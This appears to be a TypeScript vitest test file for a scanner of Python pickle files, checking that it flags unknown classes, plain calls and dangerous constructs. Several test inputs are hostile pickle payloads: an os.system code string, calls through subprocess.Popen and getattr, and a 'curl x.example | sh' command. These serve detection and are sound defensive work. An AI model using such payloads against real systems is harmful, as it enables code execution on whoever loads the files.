import { describe, expect, test } from "vitest";
import { actsIn, global, isFound, opcodes, text } from "./testing/pickles.ts";

const pickle = (body: string): Buffer => opcodes(`\x80\x04${body}.`);
const own = global("acme.features", "Scaler");
const state = `}${text("w")}G\0\0\0\0\0\0\0\0s`;
const evil = "__import__('os').system('id')";
const reconstructor = global("copyreg", "_reconstructor");
const object = global("builtins", "object");

describe("an object of a class that nobody knows is told, and no more", () => {
  test.each([
    ["by NEWOBJ", `${own})\x81${state}b`],
    ["by NEWOBJ_EX", `${own})}\x92${state}b`],
    ["of the program itself", `${global("__main__", "Model")})\x81${state}b`],
    ["with fields", `${own}K\x01${text("a")}\x86\x81`],
    ["as protocols below 2 make it", `${reconstructor}${own}${object}N\x87R${state}b`],
    ["of a library that is known", `${global("pyod.models.new", "NEW")})\x81${state}b`],
    [
      "of an array",
      `${global("numpy._core.multiarray", "_reconstruct")}${own}K\x00\x85C\x01b\x87R`,
    ],
    [
      "by what Cython makes",
      `${global("acme.fast", "__pyx_unpickle_Tree")}${global("acme.fast", "Tree")}J\x01\x02\x03\x04N\x87R`,
    ],
  ])("%s", (_, body) => {
    expect(actsIn(pickle(body))).toEqual(["makes-unknown"]);
  });
  test.each([
    ["a member of an enumeration", `${global("acme.kinds", "Kind")}K\x01\x85R`],
    ["by its name", `${global("acme.kinds", "Kind")}${text("linear")}\x85R`],
    [
      "of a library that is known, with a text",
      `${global("pyod.models.new", "NEW")}${text("x")}\x85\x81`,
    ],
    ["an exception", `${global("acme.errors", "BadInputError")}${text("it is bad")}\x85R`],
  ])("%s", (_, body) => {
    expect(actsIn(pickle(body))).toEqual(["calls-plainly"]);
  });
  test("of what Cython makes in a library that is known nothing is said", () => {
    const tree = global("sklearn.neighbors._kd_tree", "KDTree");
    const reader = global("sklearn.neighbors._kd_tree", "__pyx_unpickle_Some");
    expect(actsIn(pickle(`${reader}${tree}K\x01N\x87R`))).toEqual([]);
  });
  test("what is kept for later is named", () => {
    const clean = global("acme.features", "clean");
    const partial = `${global("functools", "partial")}${clean}\x85R(${clean})}Ntb`;
    expect(actsIn(pickle(partial))).toEqual(["names-unknown"]);
    expect(actsIn(pickle(`${global("collections", "defaultdict")}${own}\x85R`))).toEqual([
      "names-unknown",
    ]);
  });
  test("a class within a class, as protocol 2 writes it", () => {
    const inner = `${global("builtins", "getattr")}${own}${text("Part")}\x86R`;
    expect(actsIn(pickle(`${inner})\x81${state}b`))).toEqual(["makes-unknown", "names-unknown"]);
  });
});

describe("but what is near to it is found", () => {
  test.each([
    ["a call with a text", `${global("acme.tools", "prepare")}${text("touch /tmp/x")}\x85R`],
    ["a call with bytes", `${global("acme.tools", "Reader")}C\x02ab\x85R`],
    ["a call of a function without arguments", `${global("acme.tools", "main")})R`],
    ["a call with a word of a function", `${global("acme.tools", "prepare")}${text("id")}\x85R`],
    [
      "a class that starts programs, by its name",
      `${global("__main__", "Popen")}${text("id")}\x85R`,
    ],
    ["a class of a shell", `${global("acme.tools", "Command")}${text("id")}\x85R`],
    ["INST, which calls what is no class", `(i__main__\nmain\n`],
    ["OBJ", `(${own}o`],
    ["a text of code as an argument of NEWOBJ", `${own}${text(evil)}\x85\x81`],
    ["a text of code in a state", `${own})\x81}${text("expr")}${text(evil)}sb`],
    ["a command in a state", `${own})\x81}${text("hook")}${text("curl x.example | sh")}sb`],
    ["a state of another class", `${own})\x81N}${text("__class__")}${own}s\x86b`],
    ["a function in a state", `${own})\x81}${text("f")}${global("os", "system")}sb`],
    ["a function in an argument", `${own}${global("os", "system")}\x85\x81`],
    ["through its dots", `${global("acme", "os.system")}${text("id")}\x85R`],
    [
      "through getattr",
      `${global("builtins", "getattr")}${own}${text("run")}\x86R${text("id")}\x85R`,
    ],
    [
      "through getattr of a class",
      `${global("builtins", "getattr")}${global("subprocess", "Popen")}${text("Popen")}\x86R${text("id")}\x85R`,
    ],
    ["one more distribution of SciPy", `${global("scipy.stats._new", "new_gen")})\x81${state}b`],
    ["one more expression of SymPy", `${global("sympy.new", "New")}${text("x")}\x85\x81`],
    ["a class of a module that is dangerous", `${global("subprocess", "Popen")})\x81${state}b`],
    [
      "copyreg with another base",
      `${reconstructor}${own}${global("acme.x", "Base")}${text("x")}\x87R`,
    ],
    [
      "an unknown function handed to a maker",
      `${global("builtins", "list")}${global("acme.x", "run")}\x85R`,
    ],
  ])("%s", (_, body) => {
    expect(isFound(pickle(body))).toBe(true);
  });
  test.each([
    ["handed on", (kept: string) => `${global("builtins", "list")}${kept}\x85R`],
    ["asked by an iterator", (kept: string) => `${global("builtins", "iter")}${kept}N\x86R`],
    ["called", (kept: string) => `${kept})R`],
  ])("a partial of what nobody knows that is %s", (_, use) => {
    const partial = `${global("functools", "partial")}${global("acme.x", "run")}${text("id")}\x86R`;
    expect(isFound(pickle(use(partial)))).toBe(true);
  });
  test.each([
    ["a name that only looks like it", "__pyx_unpickle_Tree.run", `${own}K\x01N\x87`],
    ["texts", "__pyx_unpickle_Tree", `${text("x")}K\x01N\x87`],
    ["a function", "__pyx_unpickle_Tree", `${global("os", "system")}K\x01N\x87`],
    [
      "a function in its state",
      "__pyx_unpickle_Tree",
      `${own}K\x01${global("os", "system")}\x85\x87`,
    ],
  ])("a reader of Cython that is given %s", (_, name, args) => {
    expect(isFound(pickle(`${global("acme.fast", name)}${args}R`))).toBe(true);
  });
});
